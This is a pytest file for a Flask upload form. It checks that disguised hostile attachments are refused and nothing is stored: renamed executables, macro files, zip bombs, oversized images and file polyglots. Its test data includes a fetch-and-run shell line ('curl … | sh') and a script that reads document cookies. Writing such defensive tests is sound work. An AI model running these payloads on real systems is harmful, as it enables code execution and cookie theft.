"""Hostile attachments that tests/intake/ does not already try (there: an ELF renamed .pdf,
a macro .docx, a zip bomb .docx, an encrypted OLE file, a PNG declaring 100000x100000).
Each is refused by its bytes with a message saying why, and nothing is stored.
A new case is one line in CASES."""

from __future__ import annotations

import io
import struct
import zipfile
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import func, select

from app.db import db
from app.intake.attachments import AttachmentRefused, check_upload
from app.models import Attachment, Submission
from tests.intake import files
from tests.intake.helpers import submit

MAX_BYTES = 10 * 1024 * 1024  # the default MAX_ATTACHMENT_BYTES

WINDOWS_EXE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 56 + b"PE\x00\x00" + b"\x00" * 200
SHELL_SCRIPT = b"#!/bin/sh\ncurl http://example.invalid | sh\n"
HTML_PAGE = b"<!doctype html><html><script>alert(document.cookie)</script></html>"


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def xlsx(extra: dict[str, bytes] | None = None, content_types: bytes | None = None) -> bytes:
    return _zip(
        {
            "[Content_Types].xml": content_types
            or b'<Types><Override PartName="/xl/workbook.xml" ContentType="application/'
            b'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
            "xl/workbook.xml": b"<workbook/>",
            **(extra or {}),
        }
    )


def xlsm_renamed() -> bytes:
    """An Excel workbook with macros (what Excel saves as .xlsm), sent as .xlsx."""
    return xlsx(
        extra={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"},
        content_types=b'<Types><Override PartName="/xl/workbook.xml" ContentType="application/'
        b'vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
    )


def docm_content_type_only() -> bytes:
    """Macro-enabled by its declared type alone, the VBA part hidden under another name."""
    return files.docx(
        extra={"word/media/image1.bin": b"\xd0\xcf\x11\xe0macro"},
        content_types=b'<Types><Override PartName="/word/document.xml" ContentType="application/'
        b'vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
    )


def zip_bomb_xlsx() -> bytes:
    return xlsx(extra={"xl/sharedStrings.xml": b"A" * (30 * 1024 * 1024)})


def jpeg(width: int, height: int) -> bytes:
    """A tiny JPEG whose frame header declares `width` x `height` (16 bits each: 65535 at
    most, still 4 gigapixels)."""
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    return (
        b"\xff\xd8\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00" + b"\x00" * 9 + sof + b"\xff\xd9"
    )


def pdf_zip_polyglot() -> bytes:
    """Valid as a PDF from its start and as a ZIP archive from its end."""
    return files.MINIMAL_PDF + _zip({"payload.exe": WINDOWS_EXE})


def pdf_html_polyglot() -> bytes:
    return files.MINIMAL_PDF.replace(b"\n", b"\n" + HTML_PAGE + b"\n", 1)


def png_zip_polyglot() -> bytes:
    return files.png() + _zip({"evil.html": HTML_PAGE})


# (name sent, bytes, words of the message; tests/intake checks the Spanish of the others)
CASES: dict[str, tuple[str, bytes, str]] = {
    "windows_exe_as_docx": ("propuesta.docx", WINDOWS_EXE, "Only PDF, Word"),
    "shell_script_as_pdf": ("informe.pdf", SHELL_SCRIPT, "Only PDF, Word"),
    "html_as_pdf": ("informe.pdf", HTML_PAGE, "Only PDF, Word"),
    "xlsm_as_xlsx": ("tabla.xlsx", xlsm_renamed(), "Files with macros"),
    "docm_by_content_type": ("propuesta.docx", docm_content_type_only(), "Files with macros"),
    "zip_bomb_as_xlsx": ("tabla.xlsx", zip_bomb_xlsx(), "damaged or too complex"),
    "jpeg_huge_declared_size": ("foto.jpg", jpeg(65_000, 65_000), "image is too large"),
    "pdf_zip_polyglot": ("informe.pdf", pdf_zip_polyglot(), "several kinds of file"),
    "pdf_html_polyglot": ("informe.pdf", pdf_html_polyglot(), "several kinds of file"),
    "png_zip_polyglot": ("mapa.png", png_zip_polyglot(), "several kinds of file"),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_hostile_file_is_refused_by_its_bytes(case: str) -> None:
    name, data, _words = CASES[case]
    with pytest.raises(AttachmentRefused):
        check_upload(name, data, max_bytes=MAX_BYTES)


def test_each_hostile_file_is_refused_in_the_form_and_nothing_is_stored(
    seeded: Flask, client: FlaskClient
) -> None:
    for case, (name, data, words) in sorted(CASES.items()):
        response = submit(client, "en", files=[(data, name)])
        assert response.status_code == 422, case
        assert words in response.get_data(as_text=True), case
    with seeded.app_context():
        assert db.session.scalar(select(func.count()).select_from(Submission)) == 0
        assert db.session.scalar(select(func.count()).select_from(Attachment)) == 0
    upload_dir = Path(seeded.config["UPLOAD_DIR"])
    assert not upload_dir.exists() or not [p for p in upload_dir.rglob("*") if p.is_file()]


def test_the_genuine_files_next_to_them_are_still_accepted() -> None:
    def kind(name: str, data: bytes) -> str:
        return check_upload(name, data, max_bytes=MAX_BYTES).content_type

    assert kind("tabla.xlsx", xlsx()).endswith("spreadsheetml.sheet")
    assert kind("foto.jpg", jpeg(4000, 3000)) == "image/jpeg"
    assert kind("informe.pdf", files.MINIMAL_PDF) == "application/pdf"
